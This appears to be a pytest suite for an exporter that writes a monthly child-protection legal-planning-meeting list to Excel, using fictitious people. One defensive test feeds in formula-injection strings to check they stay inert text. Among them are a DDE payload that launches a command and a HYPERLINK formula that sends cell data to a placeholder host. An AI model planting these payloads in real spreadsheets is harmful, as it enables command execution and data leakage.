"""The workbook of the first-Monday list, read back by another program and looked at part by part."""

import re
import zipfile
from dataclasses import replace
from datetime import UTC, date, datetime
from io import BytesIO
from typing import Any
from xml.etree import ElementTree

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from cpdesk.rows.list_columns import LIST_COLUMNS
from cpdesk.rows.lpm_list import ListChanges, ListLine, LpmList, NotReady
from cpdesk.rules.calendar import england_and_wales
from cpdesk.rules.first_monday import first_monday
from reports.lpm_list import write_lpm_list

HEADINGS = [column.heading for column in LIST_COLUMNS]


def a_line(number: int = 1, **fields: Any) -> ListLine:
    """A line of an overdue entry."""
    values: dict[str, Any] = {
        "recommendation_id": number, "state": "Overdue 3 wd", "child": "I. T.", "reference": "0004711",
        "team": "Cluster 3 B", "chair": "P. Example", "team_manager": "M. Manager", "social_worker": "S. Worker",
        "conference_kind": "ICPC", "conference_on": date(2026, 10, 1), "timescale": "within 4 weeks",
        "lpm_by": date(2026, 11, 18), "lpm_booked_for": None, "lpm_on": None, "outcome": "", "ic_read_on": None,
        "tm_view": "Agrees", "disagreement": "", "rationale": "Neglect continues", "last_update_on": date(2026, 11, 9),
        "mark": "overdue", "overdue_by": 3, "gaps": (), "stands": "Alerted", **fields,
    }  # fmt: skip
    return ListLine(**values)


def a_list(*lines: ListLine, **fields: Any) -> LpmList:
    """The list of December 2026 with these lines, issued."""
    ids = tuple(line.recommendation_id for line in lines)
    values: dict[str, Any] = {
        "unit": "Fictitious Safeguarding Unit", "month": "2026-12",
        "monday": first_monday("2026-12", england_and_wales()), "lines": lines,
        "changes": ListChanges(ids[:1], (), ids[1:2], (), "Since the list for Monday 2 November 2026."),
        "not_ready": tuple(NotReady(n, "I. T.", "0004711", "P. Example", "No rationale recorded") for n in ids[:1]),
        "counts": (("Overdue", len(lines)),), "standards": "LLR Practice Standards",
        "standards_notice": "Review was due.", "days_explained": ("Not counted: Christmas Day.",),
        "demonstration": False, "chain_head": "ab" * 32,
        "issued_at": datetime(2026, 12, 7, 9, 30, tzinfo=UTC), "issued_by": "pat", **fields,
    }  # fmt: skip
    return LpmList(**values)


def read_list(written: bytes) -> list[list[Any]]:
    """The rows of the sheet "LPM list" as calamine reads them."""
    return CalamineWorkbook.from_filelike(BytesIO(written)).get_sheet_by_name("LPM list").to_python()


def part(written: bytes, name: str) -> str:
    """One part of the file as text."""
    with zipfile.ZipFile(BytesIO(written)) as archive:
        return archive.read(name).decode()


def test_it_has_three_sheets_and_opens_on_the_summary() -> None:
    written = write_lpm_list(a_list(a_line()))
    assert CalamineWorkbook.from_filelike(BytesIO(written)).sheet_names == [
        "Summary", "LPM list", "How days are counted",
    ]  # fmt: skip
    assert openpyxl.load_workbook(BytesIO(written)).active.title == "Summary"


def test_the_list_has_its_headings_true_dates_and_ids_as_text() -> None:
    headings, row = read_list(write_lpm_list(a_list(a_line())))
    found = dict(zip(headings, row, strict=True))
    assert headings == HEADINGS
    assert found["LPM due"] == date(2026, 11, 18)
    assert found["Reference"] == "0004711"
    assert found["Working days over"] == 3
    assert found["LPM held"] == ""


def test_the_state_stands_first_in_words_and_then_as_a_light_fill() -> None:
    sheet = openpyxl.load_workbook(BytesIO(write_lpm_list(a_list(a_line()))))["LPM list"]
    assert sheet["A2"].value == "Overdue 3 wd"
    assert sheet["A2"].fill.fgColor.rgb == "00FBE5E5"
    assert sheet["K2"].number_format == "dd/mm/yyyy"


@pytest.mark.parametrize("entries", [0, 1, 40])
def test_the_list_is_an_excel_table_with_filters_whatever_its_length(entries: int) -> None:
    sheet = openpyxl.load_workbook(BytesIO(write_lpm_list(a_list(*map(a_line, range(entries))))))["LPM list"]
    (table,) = sheet.tables.values()
    assert table.ref == f"A1:U{max(entries, 1) + 1}" == table.autoFilter.ref
    assert [column.name for column in table.tableColumns] == HEADINGS == [cell.value for cell in sheet[1]]
    assert sheet.max_row == max(entries, 1) + 1


def test_it_prints_landscape_to_its_width_with_the_heading_on_each_page() -> None:
    sheet = openpyxl.load_workbook(BytesIO(write_lpm_list(a_list(a_line()))))["LPM list"]
    assert sheet.freeze_panes == "E2"
    assert sheet.print_title_rows == "$1:$1"
    assert (sheet.page_setup.orientation, sheet.page_setup.fitToWidth, sheet.page_setup.fitToHeight) == (
        "landscape", 1, 0,
    )  # fmt: skip
    assert sheet.sheet_properties.pageSetUpPr.fitToPage


def test_each_page_bears_the_marking_its_number_and_who_exported_it() -> None:
    book = openpyxl.load_workbook(BytesIO(write_lpm_list(a_list(a_line(), issued_by="Pat & Sons"))))
    for sheet in book:
        assert sheet.oddFooter.left.text == "OFFICIAL-SENSITIVE"
        assert sheet.oddFooter.center.text == "Page &P of &N"
        assert sheet.oddFooter.right.text == "cpdesk, exported 7 December 2026 by Pat && Sons"


@pytest.mark.parametrize("invented", [True, False])
def test_a_demonstration_says_so_on_every_page_and_only_then(invented: bool) -> None:
    written = write_lpm_list(a_list(a_line(), demonstration=invented))
    for sheet in openpyxl.load_workbook(BytesIO(written)):
        assert ("DEMONSTRATION" in (sheet.oddHeader.center.text or "")) == invented
    first = CalamineWorkbook.from_filelike(BytesIO(written)).get_sheet_by_index(0).to_python()
    assert any("DEMONSTRATION" in str(cell) for row in first for cell in row) == invented


def test_the_summary_tells_what_changed_and_what_is_missing() -> None:
    book = CalamineWorkbook.from_filelike(BytesIO(write_lpm_list(a_list(a_line(1), a_line(2, reference="77")))))
    cells = [str(cell) for row in book.get_sheet_by_index(0).to_python() for cell in row if cell != ""]
    for words in (
        "LPM list: December 2026", "Monday 7 December 2026", "Since the list for Monday 2 November 2026.", "New: 1",
        "Held: 0", "Newly overdue: 1", "Closed or withdrawn: 0", "No rationale recorded", "OFFICIAL-SENSITIVE",
    ):  # fmt: skip
        assert words in cells
    last = [str(cell) for row in book.get_sheet_by_index(2).to_python() for cell in row]
    assert "Not counted: Christmas Day." in last
    assert any("ab" * 32 in cell for cell in last)


def test_where_everything_is_new_the_summary_points_to_the_list() -> None:
    lines = [a_line(number) for number in range(3)]
    changes = ListChanges((0, 1, 2), (), (), (), "This is the first list.")
    book = CalamineWorkbook.from_filelike(BytesIO(write_lpm_list(a_list(*lines, changes=changes, not_ready=()))))
    cells = [cell for row in book.get_sheet_by_index(0).to_python() for cell in row]
    assert "That is the whole list: see the next sheet." in cells
    assert "Reference" not in cells


@pytest.mark.parametrize(
    "text",
    [
        "=1+1", '=HYPERLINK("http://e.example?"&A2)', "=cmd|'/C calc'!A0", "+44 116 000", "-1+1", "@SUM(1)", "==", "=",
        "\t=1+1", "#REF!", "TRUE", "1E5", "30/3/17", "007", "_x0041_ <b>&amp;</b>", "  spaces  ", "a\nb",
        '<row hidden="1"> <f> state="hidden"', "𝕏 é 漢",
    ],
)  # fmt: skip
def test_text_is_text_whatever_it_begins_with(text: str) -> None:
    written = write_lpm_list(a_list(a_line(rationale=text, reference=text, team=text)))
    row = dict(zip(HEADINGS, read_list(written)[1], strict=True))
    assert not re.search(r"<f[ >/]", part(written, "xl/worksheets/sheet2.xml"))
    sheet = openpyxl.load_workbook(BytesIO(written))["LPM list"]
    cell = sheet.cell(2, HEADINGS.index("Reason for the LPM") + 1)
    assert cell.data_type == "s"
    assert bool(cell.quotePrefix) == text.startswith(("=", "+", "-", "@", "\t"))
    assert isinstance(row["Reason for the LPM"], str)
    assert str(cell.value).replace("_x005F_", "_") == text
    assert row["Reference"] in {text, text.replace("_x", "_x005F_x")}


@given(st.text(st.characters(codec=None), max_size=60))
def test_no_text_breaks_the_workbook_or_becomes_a_formula(text: str) -> None:
    written = write_lpm_list(a_list(a_line(rationale=text, child=text, timescale=text, chair=text)))
    assert len(read_list(written)) == 2
    assert not re.search(r"<f[ >/]", part(written, "xl/worksheets/sheet2.xml"))


@pytest.mark.parametrize(
    ("typed", "kept"),
    [("a\x0bb", "a\nb"), ("a\x00b\x07", "a\ufffdb\ufffd"), ("a\ufffeb", "a\ufffdb"), ("a\ud800b", "a\ufffdb")],
)
def test_characters_that_no_workbook_holds_are_replaced(typed: str, kept: str) -> None:
    row = read_list(write_lpm_list(a_list(a_line(rationale=typed))))[1]
    assert row[HEADINGS.index("Reason for the LPM")] == kept


@pytest.mark.parametrize("letter", ["x", "𝕏"])
def test_text_longer_than_excel_keeps_is_cut_and_says_so(letter: str) -> None:
    units = 1 if letter == "x" else 2
    fits = letter * (32_766 // units)
    for text, cut in ((fits, False), (fits + letter * 2, True)):
        shown = read_list(write_lpm_list(a_list(a_line(rationale=text))))[1][HEADINGS.index("Reason for the LPM")]
        assert shown.endswith("… [cut]") == cut
        assert len(shown.encode("utf-16-le")) // 2 <= 32_767


@pytest.mark.parametrize("day", [date(1, 1, 1), date(1899, 12, 31), date(1900, 2, 28)])
def test_a_day_that_excel_cannot_count_stands_there_as_text(day: date) -> None:
    row = read_list(write_lpm_list(a_list(a_line(lpm_by=day))))[1]
    assert row[HEADINGS.index("LPM due")] == f"{day.day:02}/{day.month:02}/{day.year:04}"


def test_the_last_day_of_all_is_a_true_date() -> None:
    sheet = openpyxl.load_workbook(BytesIO(write_lpm_list(a_list(a_line(lpm_by=date(9999, 12, 31))))))["LPM list"]
    assert sheet["K2"].value == datetime(9999, 12, 31)  # noqa: DTZ001  # Excel knows no zones


@pytest.mark.parametrize("entries", [0, 1, 60])
def test_the_same_list_always_gives_the_same_bytes(entries: int) -> None:
    lpm_list = a_list(*map(a_line, range(entries)))
    assert write_lpm_list(lpm_list) == write_lpm_list(lpm_list)
    assert write_lpm_list(lpm_list) != write_lpm_list(replace(lpm_list, issued_by="sam"))


def test_nothing_hidden_nothing_linked_and_nobody_s_name_in_the_properties() -> None:
    written = write_lpm_list(a_list(a_line(child="Q. Z.")))
    with zipfile.ZipFile(BytesIO(written)) as archive:
        names = archive.namelist()
        assert not [name for name in names if re.search("comment|external|vba|drawing|pivot|printerSettings", name)]
        assert {info.date_time for info in archive.infolist()} == {(2026, 12, 7, 9, 30, 0)}
        for name in names:
            ElementTree.fromstring(archive.read(name))  # our own file, just written
    core = part(written, "docProps/core.xml")
    assert "cpdesk" in core
    assert "openpyxl" not in core
    book = openpyxl.load_workbook(BytesIO(written))
    assert [sheet.sheet_state for sheet in book] == ["visible"] * 3
    assert not book.defined_names


def test_progress_is_told_while_a_long_list_is_written() -> None:
    told: list[tuple[int, int]] = []
    write_lpm_list(a_list(*map(a_line, range(1200))), lambda done, total: told.append((done, total)))
    assert told == [(500, 1200), (1000, 1200)]
